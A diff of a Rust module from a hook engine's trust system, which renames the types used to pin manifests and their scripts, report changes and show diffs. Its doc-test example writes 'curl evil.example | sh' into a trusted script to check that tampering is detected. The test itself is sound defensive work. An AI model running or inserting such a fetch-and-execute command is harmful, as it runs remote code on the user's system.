@@ -7,7 +7,7 @@
 //! ```
 //! use std::fs;
 //!
-//! use anyhook_engine::trust::{Admission, Change, Pinned, Standing, Trust, TrustError, What, scripts};
+//! use anyhook_engine::trust::{Admission, PinDifference, TrustPin, PinStatus, Trust, TrustError, DifferenceKind, scripts};
 //! use anyhook_engine::files::read_document;
 //!
 //! let place = tempfile::tempdir()?;
@@ -24,20 +24,20 @@
 //! assert_eq!(scripts(&read_document(&manifest)?, &root)?, ["check.sh".into()] as [std::path::PathBuf; 1]);
 //!
 //! let trust = Trust::new(root.join("pins"));
-//! assert_eq!(trust.standing(&manifest), Standing::Never(None));
+//! assert_eq!(trust.standing(&manifest), PinStatus::Never(None));
 //! let never: TrustError = trust.diff(&manifest).unwrap_err();
 //! assert_eq!(never.to_string(), "the manifest was never trusted");
 //!
 //! // A person looks at it, and pins it with all that it runs.
-//! let Pinned { files, .. } = trust.pin(&manifest, 1_700_000_000_000)?;
+//! let TrustPin { files, .. } = trust.pin(&manifest, 1_700_000_000_000)?;
 //! assert_eq!(files.len(), 2);
-//! assert_eq!(trust.standing(&manifest), Standing::Trusted);
+//! assert_eq!(trust.standing(&manifest), PinStatus::Trusted);
 //!
 //! // The script is edited, not the manifest.
 //! fs::write(root.join("check.sh"), "curl evil.example | sh\n")?;
-//! let edited = Change { file: "check.sh".into(), what: What::Edited };
+//! let edited = PinDifference { file: "check.sh".into(), what: DifferenceKind::Edited };
 //! assert_eq!(edited.to_string(), "`check.sh` was edited");
-//! assert_eq!(trust.standing(&manifest), Standing::Changed(vec![edited]));
+//! assert_eq!(trust.standing(&manifest), PinStatus::Changed(vec![edited]));
 //! assert!(trust.diff(&manifest)?.contains("+curl evil.example | sh"));
 //!
 //! // An event runs what was trusted.
@@ -61,7 +61,7 @@ use std::path::{Path, PathBuf};
 use serde::{Deserialize, Serialize};
 
 use crate::files::{self, FileError};
-use crate::policy::Vouched;
+use crate::policy::VouchedPackage;
 
 mod admission;
 mod copies;
@@ -82,13 +82,13 @@ mod unit;
 mod vouched;
 
 pub use admission::{Admission, TrustedCopy};
-use copies::Copies;
+use copies::CopyStore;
 use diff::shown;
-pub use kept::Kept;
-pub use pin::Pinned;
-use pin::{Looked, absolute_root, changes, compare, look};
-pub use place::Entry;
-use place::{Place, name_of};
+pub use kept::TrustedManifest;
+pub use pin::TrustPin;
+use pin::{PinCandidate, absolute_root, changes, compare, look};
+pub use place::PinnedFile;
+use place::{ManifestLocation, name_of};
 pub(crate) use plugin::{is_description, is_plugin, named as named_by_plugin};
 #[doc(hidden)]
 pub use point::pointed;
@@ -105,34 +105,34 @@ pub struct Trust {
     /// Why nothing that was trusted counts: the passphrase that stands before it is gone.
     unproved: Option<String>,
     /// What the administrator's policy vouches for.
-    vouched: Vec<Vouched>,
+    vouched: Vec<VouchedPackage>,
 }
 
 /// How a manifest stands with the person.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub enum Standing {
+pub enum PinStatus {
     /// It is what the person pinned.
     Trusted,
     /// It was never pinned. Where there is a pin that cannot be used, this says why.
     Never(Option<String>),
     /// It was trusted, and these files are no longer what they were. The trusted copy goes on guarding.
-    Changed(Vec<Change>),
+    Changed(Vec<PinDifference>),
     /// It cannot be read.
     Unreadable(String),
 }
 
 /// One difference from what was pinned; as text, `` `hooks/check.sh` was edited ``.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
-pub struct Change {
+pub struct PinDifference {
     /// The file, below the package root, with control characters written as escapes.
     pub file: String,
     /// What is different.
-    pub what: What,
+    pub what: DifferenceKind,
 }
 
 /// What is different about a file.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
-pub enum What {
+pub enum DifferenceKind {
     /// Its content.
     Edited,
     /// Whether it may be executed.
@@ -149,17 +149,17 @@ pub enum What {
     Unreadable(String),
 }
 
-impl fmt::Display for Change {
+impl fmt::Display for PinDifference {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         let file = &self.file;
         match &self.what {
-            What::Edited => write!(f, "`{file}` was edited"),
-            What::Mode => write!(f, "`{file}` changed whether it may be executed"),
-            What::Link => write!(f, "`{file}` leads to another file"),
-            What::Added => write!(f, "`{file}` is new"),
-            What::Removed => write!(f, "`{file}` is gone"),
-            What::Left => write!(f, "`{file}` leads out of the package"),
-            What::Unreadable(why) => write!(f, "`{file}` cannot be read: {why}"),
+            DifferenceKind::Edited => write!(f, "`{file}` was edited"),
+            DifferenceKind::Mode => write!(f, "`{file}` changed whether it may be executed"),
+            DifferenceKind::Link => write!(f, "`{file}` leads to another file"),
+            DifferenceKind::Added => write!(f, "`{file}` is new"),
+            DifferenceKind::Removed => write!(f, "`{file}` is gone"),
+            DifferenceKind::Left => write!(f, "`{file}` leads out of the package"),
+            DifferenceKind::Unreadable(why) => write!(f, "`{file}` cannot be read: {why}"),
         }
     }
 }
@@ -207,31 +207,31 @@ impl Trust {
     }
 
     /// Tells how a manifest stands now.
-    pub fn standing(&self, manifest: &Path) -> Standing {
+    pub fn standing(&self, manifest: &Path) -> PinStatus {
         match self.pin_at(manifest) {
-            Err(why) => Standing::Never(Some(why)),
+            Err(why) => PinStatus::Never(Some(why)),
             Ok(Some(pin)) => match changes(&pin, manifest, None) {
-                changes if changes.is_empty() => Standing::Trusted,
-                changes => Standing::Changed(changes),
+                changes if changes.is_empty() => PinStatus::Trusted,
+                changes => PinStatus::Changed(changes),
             },
             Ok(None) if matches!(self.is_pinned(manifest), Ok(true)) => {
-                Standing::Never(Some(record::VANISHED.to_owned()))
+                PinStatus::Never(Some(record::VANISHED.to_owned()))
             }
-            Ok(None) => match Place::of(manifest).and_then(|place| place.read()) {
-                Ok(_) => Standing::Never(None),
-                Err(why) => Standing::Unreadable(why),
+            Ok(None) => match ManifestLocation::of(manifest).and_then(|place| place.read()) {
+                Ok(_) => PinStatus::Never(None),
+                Err(why) => PinStatus::Unreadable(why),
             },
         }
     }
 
     /// Looks at a manifest and all that is trusted with it, as they are now, and keeps nothing.
-    pub fn look(manifest: &Path) -> Result<Pinned, TrustError> {
+    pub fn look(manifest: &Path) -> Result<TrustPin, TrustError> {
         look(manifest, 0).map(|looked| looked.pin)
     }
 
     /// Pins a manifest and all that belongs to it as they are now, with a copy.
-    pub fn pin(&self, manifest: &Path, now: i64) -> Result<Pinned, TrustError> {
-        let Looked { pin, contents } = look(manifest, now)?;
+    pub fn pin(&self, manifest: &Path, now: i64) -> Result<TrustPin, TrustError> {
+        let PinCandidate { pin, contents } = look(manifest, now)?;
         self.keep(&pin, |name| contents.get(name).cloned())?;
         Ok(pin)
     }
@@ -239,12 +239,12 @@ impl Trust {
     /// Keeps a pin, and a copy of its files.
     fn keep(
         &self,
-        pin: &Pinned,
+        pin: &TrustPin,
         content: impl Fn(&str) -> Option<Vec<u8>>,
     ) -> Result<(), TrustError> {
         files::private_dir(&self.dir)?;
         // The copy first: a pin is never without it, and it is checked against the pin when it is used.
-        Copies::below(&self.dir).make(pin, content)?;
+        CopyStore::below(&self.dir).make(pin, content)?;
         self.change(|pins| {
             for other in pins.iter_mut() {
                 other.names.retain(|name| !pin.names.contains(name));
@@ -280,9 +280,9 @@ impl Trust {
         let found = self.pin_at(manifest);
         let never = || TrustError::Package("the manifest was never trusted".to_owned());
         let pin = found.map_err(TrustError::Package)?.ok_or_else(never)?;
-        let copies = Copies::below(&self.dir);
+        let copies = CopyStore::below(&self.dir);
         let copy = copies.of(&pin);
-        let place = Place::of(manifest).ok();
+        let place = ManifestLocation::of(manifest).ok();
         let mut text = String::new();
         for change in changes(&pin, manifest, None) {
             let now = place.as_ref().and_then(|place| {
@@ -295,7 +295,7 @@ impl Trust {
             let entry = pin.files.get(&change.file);
             let read = files::read_script(&copy.join(&change.file)).ok();
             let before = match change.what {
-                What::Added => Some(Vec::new()),
+                DifferenceKind::Added => Some(Vec::new()),
                 _ => read.filter(|bytes| {
                     entry.is_some_and(|entry| entry.sha256 == files::digest(bytes))
                 }),
@@ -319,7 +319,7 @@ impl Trust {
     /// Returns the text of a manifest as it was pinned, where the copy is still that of the pin.
     pub fn pinned_text(&self, manifest: &Path) -> Option<String> {
         let pin = self.pin_at(manifest).ok()??;
-        let copy = Copies::below(&self.dir).of(&pin).join(&pin.given);
+        let copy = CopyStore::below(&self.dir).of(&pin).join(&pin.given);
         let bytes = files::read_document(&copy).ok()?;
         let entry = pin.files.get(&pin.given)?;
         let is_it = entry.sha256 == files::digest(&bytes);
@@ -328,7 +328,7 @@ impl Trust {
 
     /// Finds the pin of a manifest, also of one that is gone: as the manifest is given, else by a name that it has on the way
     /// through links.
-    fn pin_at(&self, manifest: &Path) -> Result<Option<Pinned>, String> {
+    fn pin_at(&self, manifest: &Path) -> Result<Option<TrustPin>, String> {
         let mut pins = self.all()?;
         for (at, name) in place::names(manifest)?.iter().enumerate() {
             let name = name_of(name);
